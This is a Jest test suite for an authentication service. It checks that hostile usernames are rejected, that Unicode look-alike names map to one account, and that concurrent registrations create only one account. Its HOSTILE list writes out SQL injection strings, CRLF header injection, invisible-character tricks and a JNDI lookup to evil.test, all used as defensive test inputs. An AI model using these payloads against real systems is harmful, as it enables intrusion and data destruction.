import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { expectProblem, member } from '../support/answers.js';
import { createTestApp, type TestApp } from '../support/test-app.js';

const PASSWORD = 'correct horse battery staple';
const WRONG = { oauth: 'invalid_grant', detail: 'Incorrect username or password' };
const AT_ONCE = 50;

/** Spellings of one name by case, width and composition. */
const ADMINS = ['admin', 'ADMIN', 'Admin', 'aDmIn', 'ａｄｍｉｎ', 'ＡＤＭＩＮ', '𝐀𝐝𝐦𝐢𝐧'];
const CAFES = ['café-user', 'cafe\u0301-user', 'CAFÉ-USER', 'CAFE\u0301-USER', 'ｃａｆé-user', 'Cafe\u0301-User', '𝒄𝒂𝒇é-user'];

/** Names that a username may not be. */
const HOSTILE: [string, string][] = [
  ['SQL that is always true', "' OR 1=1 --"],
  ['SQL in double quotes', '" OR ""="'],
  ['SQL that drops the table', "ada'; DROP TABLE users; --"],
  ['SQL with a union', "ada' UNION SELECT 1, 'x' --"],
  ['a backslash and a quote', "\\' OR 1=1 --"],
  ['a bound name', '$name'],
  ['a bound number', '$1$2$3'],
  ['a replacement', ':name'],
  ['question marks', '???'],
  ['the wildcard of LIKE', '%%%'],
  ['a name under a wildcard', 'victi%'],
  ['GLOB', 'victi*'],
  ['a range', 'victi[a-z]'],
  ['NUL', 'victim\0'],
  ['NUL before', '\0victim'],
  ['nothing but NUL', '\0\0\0'],
  ['a line break', 'victim\r\nX-Injected: 1'],
  ['a control character', 'vic\u0007tim'],
  ['an escape sequence of a terminal', '\u001b[31mvictim'],
  ['a delete', 'victimm\u007f'],
  ['a C1 control character', 'victim\u0085'],
  ['right to left', '\u202emitciv'],
  ['an isolate', '\u2066victim\u2069'],
  ['a zero-width space', 'vic\u200btim'],
  ['a zero-width joiner', 'vic\u200dtim'],
  ['a byte order mark', '\ufeffvictim'],
  ['a soft hyphen', 'vic\u00adtim'],
  ['a word joiner', 'vic\u2060tim'],
  ['a no-break space', 'victim\u00a0'],
  ['an ideographic space', 'victim\u3000'],
  ['a tag character', 'victim\u{e0041}'],
  ['a private character', 'victim\ue000'],
  ['a high surrogate alone', 'victim\ud800'],
  ['a low surrogate alone', '\udc00victim'],
  ['two surrogates the wrong way round', 'vic\udc00\ud800tim'],
  ['nothing but surrogates', '\ud800\ud800\ud800'],
  ['a replacement character', 'victim\ufffd'],
  ['a character that is none', 'victim\uffff'],
  ['an unassigned character', 'victim\u0378'],
  ['a template', '{{constructor}}'],
  ['a format', '%s%n%d'],
  ['a lookup', '${jndi:ldap://evil.test/x}'],
];

/** The text with a replacement character for every half of one. */
const wellFormed = (text: string): string => Buffer.from(text).toString();

describe('names', () => {
  let auth: TestApp;
  let victim: number;
  beforeAll(async () => {
    auth = await createTestApp();
    victim = (await auth.createUser({ username: 'victim', password: PASSWORD })).id;
  });
  afterAll(() => auth.close());

  const register = (username: string, password = PASSWORD) => auth.http().post('/register').send({ username, password });
  const logIn = (username: string, password = PASSWORD) => auth.http().post('/token').send({ username, password });

  test.each(HOSTILE)('%s is refused as a new name, and logs nobody in', async (_what, name) => {
    expectProblem(await register(name), 422, 'validation_failed', { errors: [['username', 'format']] });
    expectProblem(await logIn(name), 401, 'invalid_credentials', WRONG);
    const form = `username=${encodeURIComponent(wellFormed(name))}&password=${encodeURIComponent(PASSWORD)}`;
    expectProblem(await auth.http().post('/token').type('form').send(form), 401, 'invalid_credentials', WRONG);
  });

  test.each(HOSTILE.filter(([, text]) => !text.includes('\0')))('%s is taken literally in a password', async (_what, text) => {
    const password = `${text} ${text} ${text}`;
    const response = await logIn('victim', password);
    expectProblem(response, 401, 'invalid_credentials', WRONG);
  });

  test.each(['_ictim', 'v_____', '______', 'victim_', 'victi_'])('%s is a name of its own and no pattern', async (name) => {
    expectProblem(await logIn(name), 401, 'invalid_credentials', WRONG);
    const registered = await register(name);
    expect(registered.status).toBe(201);
    expect(member((await logIn(name)).body, 'user')).toEqual({ id: member(registered.body, 'id'), username: name });
    expect(member((await logIn('victim')).body, 'user')).toEqual({ id: victim, username: 'victim' });
  });

  test('after all this the table and its users are still there', async () => {
    const response = await logIn('victim');
    expect(response.status).toBe(200);
    expect(member(response.body, 'user', 'id')).toBe(victim);
  });

  test.each([
    ['admin', ADMINS],
    ['a name with a mark', CAFES],
  ])('seven look-alikes of %s are one account', async (_what, spellings) => {
    expect(new Set(spellings).size).toBe(7);
    const [first = '', ...others] = spellings;
    const registered = await register(first);
    expect(registered.status).toBe(201);
    for (const other of others) {
      expectProblem(await register(other), 409, 'username_taken', { detail: 'Username already registered' });
      expect(member((await logIn(other)).body, 'user')).toEqual({ id: member(registered.body, 'id'), username: first });
    }
  });

  test('a name in another script is another name', async () => {
    expect((await register('vіctim')).status).toBe(201);
    expect(member((await logIn('vіctim')).body, 'user', 'id')).not.toBe(victim);
  });

  const races: [string, (at: number) => string][] = [
    ['one name', () => 'raced'],
    ['look-alikes of one name', (at) => ['racing', 'RACING', 'Racing', 'ｒａｃｉｎｇ', '𝐫𝐚𝐜𝐢𝐧𝐠'][at % 5] ?? ''],
  ];
  test.each(races)('50 registrations of %s at once make one account', async (_what, nameOf) => {
    const answers = await Promise.all(Array.from({ length: AT_ONCE }, (_, at) => register(nameOf(at), `password of client ${at}`)));
    const winners = answers.filter(({ status }) => status === 201);
    expect(winners.length).toBe(1);
    const losers = answers.filter(({ status }) => status !== 201);
    for (const response of losers)
      expectProblem(response, response.status === 503 ? 503 : 409, response.status === 503 ? 'unavailable' : 'username_taken');
    const worked = await Promise.all(answers.map((_, at) => logIn(nameOf(at), `password of client ${at}`)));
    expect(worked.filter(({ status }) => status === 200).length).toBe(1);
  });

  test('50 registrations of 50 names at once make 50 accounts', async () => {
    const answers = await Promise.all(Array.from({ length: AT_ONCE }, (_, at) => register(`parallel-${at}`)));
    expect(answers.map(({ status }) => status)).toEqual(answers.map(() => 201));
    expect(new Set(answers.map(({ body }): unknown => member(body, 'id'))).size).toBe(AT_ONCE);
  });

  test.each([
    ['short', 'a surrogate \ud800 inside'],
    ['longer than bcrypt reads', `a surrogate \ud800 inside ${'x'.repeat(80)}`],
  ])('a %s password with half a character is refused, and is not the one with a whole character in its place', async (what, password) => {
    const name = `half-${what.slice(0, 5)}`;
    expectProblem(await register(name, password), 422, 'validation_failed', { errors: [['password', 'format']] });
    expect((await register(name, wellFormed(password))).status).toBe(201);
    expect((await logIn(name, wellFormed(password))).status).toBe(200);
    for (const half of [password, password.replace('\ud800', '\udbff')])
      expectProblem(await logIn(name, half), 401, 'invalid_credentials', WRONG);
  });
});
